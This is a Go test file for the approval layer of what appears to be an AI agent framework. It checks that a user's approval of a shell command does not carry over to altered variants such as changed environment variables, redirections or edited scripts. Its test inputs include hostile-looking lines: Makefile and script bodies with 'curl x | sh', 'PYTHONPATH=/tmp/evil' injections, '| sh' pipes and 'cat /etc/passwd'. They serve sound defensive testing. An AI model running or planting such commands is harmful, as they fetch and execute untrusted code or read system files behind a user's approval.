package approval

import (
	"fmt"
	"io"
	"io/fs"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/fluffy-agent/fluffy/internal/operation"
	"github.com/fluffy-agent/fluffy/internal/policy"
)

// memSource is a Source over a map of absolute paths to contents; the
// entries ending in "/" are directories.
type memSource map[string]string

func (m memSource) Resolve(abs string) (string, bool, error) {
	return abs, strings.HasPrefix(abs, "/w/"), nil
}

func (m memSource) Open(abs string) (io.ReadCloser, error) {
	if _, ok := m[abs+"/"]; ok {
		return nil, ErrNotRegular
	}
	c, ok := m[abs]
	if !ok {
		return nil, fs.ErrNotExist
	}
	return io.NopCloser(strings.NewReader(c)), nil
}

// lineOp is a shell.exec of line in workspace /w, normalized as the
// router does it, with its input files bound from src.
func lineOp(t testing.TB, session, line string, src memSource) operation.Operation {
	t.Helper()
	op := operation.Operation{Tool: "shell.exec", Action: operation.Exec, CommandLine: line,
		Session: operation.Session{ID: session, Workspace: "/w"}, ArgsSHA256: fmt.Sprintf("%x", line)}
	if err := policy.Normalize(&op, "/w"); err != nil {
		t.Fatal(err)
	}
	BindInputs(&op, src)
	return op
}

// TestTokenBindsTheWholeOperation approves one command line "for
// session" and then presents every variation of it: each must be asked
// again, the identical line (with the same files) must be allowed.
func TestTokenBindsTheWholeOperation(t *testing.T) {
	const approved = "python3 x.py -c 'print(42)'"
	files := memSource{"/w/x.py": "print(1)\n", "/w/sub/": "", "/w/Makefile": "all:\n\ttrue\n", "/w/sub/x.py": "print(1)\n"}
	edited := memSource{"/w/x.py": "import os\n", "/w/sub/": "", "/w/Makefile": "all:\n\ttrue\n"}
	rp := newRealPolicy(t, "rules: []\n", nil)
	g, err := NewGrants(GrantOptions{Issuer: rp.tokens, SessionUses: 100, Now: rp.clock.now})
	if err != nil {
		t.Fatal(err)
	}
	mint := func(line string, src memSource) {
		t.Helper()
		req := Request{Session: "s1", Items: []Item{{N: 1, Step: Step{Op: lineOp(t, "s1", line, src)},
			Eval: Evaluation{Effect: EffectApprove}, Decision: Decision{Verdict: Approved, Scope: ScopeSession}}}}
		if _, skipped, err := g.Mint(req, rp.engine.Digest()); err != nil || len(skipped) > 0 {
			t.Fatal(err, skipped)
		}
	}
	mint(approved, files)
	mint("make", files)
	const fromPath = "export PATH=bin:/usr/bin; tool"
	tools := memSource{"/w/bin/tool": "#!/bin/sh\ntrue\n"}
	mint(fromPath, tools)
	for _, tc := range []struct {
		name, session, line string
		src                 memSource
		want                policy.Effect
	}{
		{"identical", "s1", approved, files, policy.Allow},
		{"env prefix", "s1", "PYTHONPATH=/tmp/evil " + approved, files, policy.Approve},
		{"PATH prefix", "s1", "PATH=/tmp:/usr/bin " + approved, files, policy.Approve},
		{"env wrapper", "s1", "env PYTHONPATH=/tmp/evil " + approved, files, policy.Approve},
		{"another directory", "s1", "cd sub && " + approved, files, policy.Approve},
		{"a redirection", "s1", approved + " > out.txt", files, policy.Approve},
		{"an appending redirection", "s1", approved + " >> x.py", files, policy.Approve},
		{"stdin from a file", "s1", approved + " < x.py", files, policy.Approve},
		{"another connector", "s1", approved + " || true", files, policy.Approve},
		{"run twice", "s1", approved + "; " + approved, files, policy.Approve},
		{"in a pipe", "s1", approved + " | sh", files, policy.Approve},
		{"other spacing", "s1", strings.Replace(approved, " ", "  ", 1), files, policy.Approve},
		{"the script edited", "s1", approved, edited, policy.Approve},
		{"the script removed", "s1", approved, memSource{"/w/sub/": ""}, policy.Approve},
		{"another session", "s2", approved, files, policy.Approve},
		{"make, identical", "s1", "make", files, policy.Allow},
		{"a program from PATH, identical", "s1", fromPath, tools, policy.Allow},
		{"a program from PATH, edited", "s1", fromPath, memSource{"/w/bin/tool": "#!/bin/sh\ncurl x | sh\n"}, policy.Approve},
		{"make, the Makefile edited", "s1", "make", memSource{"/w/x.py": "print(1)\n", "/w/Makefile": "all:\n\tcurl x | sh\n"}, policy.Approve},
		{"make, a GNUmakefile added", "s1", "make", memSource{"/w/x.py": "print(1)\n", "/w/Makefile": "all:\n\ttrue\n", "/w/GNUmakefile": "all:\n\tcurl x\n"}, policy.Approve},
	} {
		t.Run(tc.name, func(t *testing.T) {
			op := lineOp(t, tc.session, tc.line, tc.src)
			g.Present(&op)
			// Every token of the session, not only those Grants picks:
			// the engine alone must refuse them.
			for _, h := range g.held["s1"] {
				if !slices.Contains(op.Tokens, h.tok) {
					op.Tokens = append(op.Tokens, h.tok)
				}
			}
			if d := rp.engine.Decide(t.Context(), op); d.Effect != tc.want {
				t.Errorf("%q: %v by %s, want %v", tc.line, d.Effect, d.Rule, tc.want)
			}
		})
	}
}

func TestInputPaths(t *testing.T) {
	for _, tc := range []struct {
		line string
		want []string
	}{
		{"python3 x.py", []string{"/w/python3", "/w/x.py"}},
		{"./run.sh --flag", []string{"/w/--flag", "/w/run.sh"}},
		{"python3 --config=conf.py -", []string{"/w/--config=conf.py", "/w/conf.py", "/w/python3"}},
		{"cd sub && bash ../a.sh", []string{"/w/a.sh", "/w/cd", "/w/sub", "/w/sub/bash"}},
		{"BASH_ENV=env.sh bash -c true", []string{"/w/-c", "/w/bash", "/w/env.sh", "/w/true"}},
		{"sh < in.sh", []string{"/w/in.sh", "/w/sh"}},
		{"make -C x", []string{"/w/-C", "/w/GNUmakefile", "/w/Makefile", "/w/make", "/w/makefile", "/w/x", "/w/x/GNUmakefile", "/w/x/Makefile", "/w/x/makefile"}},
		{"npm --prefix=sub run", []string{"/w/--prefix=sub", "/w/.npmrc", "/w/npm", "/w/package.json", "/w/run", "/w/run/.npmrc", "/w/run/package.json", "/w/sub", "/w/sub/.npmrc", "/w/sub/package.json"}},
		{"python3 -m pytest", []string{"/w/-m", "/w/conftest.py", "/w/pyproject.toml", "/w/pytest", "/w/pytest.ini", "/w/pytest.py", "/w/pytest/__init__.py", "/w/pytest/__main__.py", "/w/pytest/conftest.py", "/w/pytest/pyproject.toml", "/w/pytest/pytest.ini", "/w/pytest/setup.cfg", "/w/pytest/tox.ini", "/w/python3", "/w/setup.cfg", "/w/tox.ini"}},
		{"cat /etc/passwd ../outside /w", []string{"/w/cat"}},
		{"PATH=/w/bin:/usr/bin tool", []string{"/w/bin/tool", "/w/bin:/usr/bin", "/w/tool"}},
		{"export PATH=bin:; cd sub && tool", []string{"/w/PATH", "/w/bin/cd", "/w/bin/export", "/w/cd", "/w/export", "/w/sub", "/w/sub/bin/tool", "/w/sub/tool"}},
		{"python3 -m pkg.tool", []string{"/w/-m", "/w/pkg.tool", "/w/pkg/tool.py", "/w/pkg/tool/__init__.py", "/w/pkg/tool/__main__.py", "/w/python3"}},
	} {
		op := operation.Operation{Tool: "shell.exec", Action: operation.Exec, CommandLine: tc.line, Session: operation.Session{ID: "s", Workspace: "/w"}}
		if err := policy.Normalize(&op, "/w"); err != nil {
			t.Fatal(err)
		}
		got, ok := InputPaths(&op)
		if !ok || !slices.Equal(got, tc.want) {
			t.Errorf("%q: %q (%v), want %q", tc.line, got, ok, tc.want)
		}
	}
}

func TestBindInputs(t *testing.T) {
	src := memSource{"/w/x.py": "print(1)\n", "/w/d/": ""}
	op := operation.Operation{Commands: []operation.Command{{Argv: []string{"python3", "x.py", "d", "missing.py"}}}, Session: operation.Session{Workspace: "/w"}}
	BindInputs(&op, src)
	if op.Unbound != "" || len(op.Inputs) != 1 || op.Inputs[0].Path != "/w/x.py" || len(op.Inputs[0].SHA256) != 64 {
		t.Fatalf("inputs %+v unbound %q", op.Inputs, op.Unbound)
	}
	// Past the limits, nothing carries over, and Scopes says so.
	many := memSource{}
	var argv []string
	for i := range maxInputs + 1 {
		p := fmt.Sprintf("f%d", i)
		many["/w/"+p] = "x"
		argv = append(argv, p)
	}
	op = operation.Operation{Tool: "shell.exec", Action: operation.Exec, Commands: []operation.Command{{Argv: argv}}, Session: operation.Session{ID: "s", Workspace: "/w"}}
	BindInputs(&op, many)
	if op.Unbound == "" || op.Inputs != nil {
		t.Fatalf("over the file limit: inputs %d unbound %q", len(op.Inputs), op.Unbound)
	}
	if _, err := Scopes(op); err == nil || !strings.Contains(err.Error(), "more than") {
		t.Fatalf("Scopes of an unbound operation: %v", err)
	}
	big := memSource{"/w/big": strings.Repeat("x", maxInputBytes+1)}
	op = operation.Operation{Commands: []operation.Command{{Argv: []string{"cat", "big"}}}, Session: operation.Session{Workspace: "/w"}}
	BindInputs(&op, big)
	if !strings.Contains(op.Unbound, "MiB") {
		t.Fatalf("over the byte limit: %q", op.Unbound)
	}
}

// FuzzTokenBinding: two operations whose commands differ in argv,
// environment, directory or redirections never share a token binding,
// and a token minted for one never allows the other.
func FuzzTokenBinding(f *testing.F) {
	f.Add("python3\x00-c\x00print(42)", "", "", "", "python3\x00-c\x00print(42)", "PYTHONPATH=/tmp", "", "")
	f.Add("python3\x00-c\x00print(42)", "", "", "", "python3\x00-c\x00print(42)", "", "sub", "")
	f.Add("python3\x00-c\x00print(42)", "", "", "", "python3\x00-c\x00print(42)", "", "", "/w/out")
	f.Add("a", "X=1\x00Y=2", "", "", "a", "X=1 Y=2", "", "")
	f.Add("a\x00b", "", "", "", "a b", "", "", "")
	rp := newRealPolicy(f, "rules: []\n", nil)
	f.Fuzz(func(t *testing.T, argv1, env1, dir1, writes1, argv2, env2, dir2, writes2 string) {
		mk := func(argv, env, dir, writes string) operation.Operation {
			c := operation.Command{Argv: nulSplit(argv), Env: nulSplit(env), Dir: dir, Writes: nulSplit(writes)}
			return operation.Operation{Tool: "shell.exec", Action: operation.Exec, Commands: []operation.Command{c},
				Session: operation.Session{ID: "s1", Workspace: "/w"}}
		}
		a, b := mk(argv1, env1, dir1, writes1), mk(argv2, env2, dir2, writes2)
		same := slices.Equal(a.Commands[0].Argv, b.Commands[0].Argv) && slices.Equal(a.Commands[0].Env, b.Commands[0].Env) &&
			a.Commands[0].Dir == b.Commands[0].Dir && slices.Equal(a.Commands[0].Writes, b.Commands[0].Writes)
		if (a.Signature() == b.Signature()) != same {
			t.Fatalf("same=%v but signatures equal=%v:\n%+v\n%+v", same, a.Signature() == b.Signature(), a.Commands, b.Commands)
		}
		scopes, err := Scopes(a)
		if err != nil {
			return // not exactly scopable: no token at all
		}
		for _, s := range scopes {
			if s.Op != a.Signature() {
				t.Fatalf("scope not bound to the operation: %+v", s)
			}
			s.Policy = rp.engine.Digest()
			tok, err := rp.tokens.Issue(s, 3600e9, 1)
			if err != nil {
				continue // a resource the token syntax cannot hold: no token
			}
			b.Tokens = append(b.Tokens, tok)
		}
		if d := rp.engine.Explain(t.Context(), b); d.Effect == policy.Allow && !same && d.Token != "" {
			t.Fatalf("a token for %+v allowed %+v", a.Commands, b.Commands)
		}
	})
}

// nulSplit cuts a fuzz string at NUL bytes; "" is no element.
func nulSplit(s string) []string {
	if s == "" {
		return nil
	}
	return strings.Split(s, "\x00")
}

// TestPromptShowsBinding: the question shows what the token will bind,
// with anything unprintable escaped.
func TestPromptShowsBinding(t *testing.T) {
	files := memSource{"/w/x.py": "print(1)\n"}
	for _, tc := range []struct {
		line string
		want []string
	}{
		{"PYTHONPATH=/tmp/evil python3 x.py", []string{"python3: env PYTHONPATH=/tmp/evil\n", "files: /w/x.py (sha256 "}},
		{"cd sub && python3 ../x.py > out.txt", []string{"python3: in directory sub; writes /w/sub/out.txt\n", "files: /w/x.py (sha256 "}},
		{"X=$'\\e[2J' python3 -c 1", []string{`python3: env "X=\x1b[2J"`}},
	} {
		op := lineOp(t, "s1", tc.line, files)
		p := Request{ID: "r1", Session: "s1", Items: []Item{{N: 1, Step: Step{Op: op, Preview: tc.line}, Eval: Evaluation{Effect: EffectApprove}, Decision: Decision{Verdict: Pending}}}}.Prompt()
		for _, w := range tc.want {
			if !strings.Contains(p, w) {
				t.Errorf("%q: prompt lacks %q:\n%s", tc.line, w, p)
			}
		}
	}
	op := operation.Operation{Tool: "shell.exec", Unbound: "the command names more than 64 files of the workspace"}
	p := Request{Items: []Item{{N: 1, Step: Step{Op: op}, Eval: Evaluation{Effect: EffectApprove}, Decision: Decision{Verdict: Pending}}}}.Prompt()
	if !strings.Contains(p, "asked every time, no approval carries over: ") {
		t.Errorf("unbound not shown:\n%s", p)
	}
}

// FuzzInputPaths: any command line yields candidates that are clean,
// absolute, strictly inside the workspace, sorted and unique.
func FuzzInputPaths(f *testing.F) {
	for _, l := range []string{"python3 x.py", "cd .. && sh < ../../etc/passwd", "export PATH=/w/bin:..; tool", "make -C ../x", "PATH=: a", "python3 -m ../../x"} {
		f.Add(l)
	}
	f.Fuzz(func(t *testing.T, line string) {
		op := operation.Operation{Tool: "shell.exec", Action: operation.Exec, CommandLine: line, Session: operation.Session{Workspace: "/w"}}
		if err := policy.Normalize(&op, "/w"); err != nil {
			return
		}
		got, _ := InputPaths(&op)
		for i, p := range got {
			if p != filepath.Clean(p) || !strings.HasPrefix(p, "/w/") {
				t.Fatalf("%q: candidate %q", line, p)
			}
			if i > 0 && got[i-1] >= p {
				t.Fatalf("%q: not sorted and unique: %q", line, got)
			}
		}
	})
}
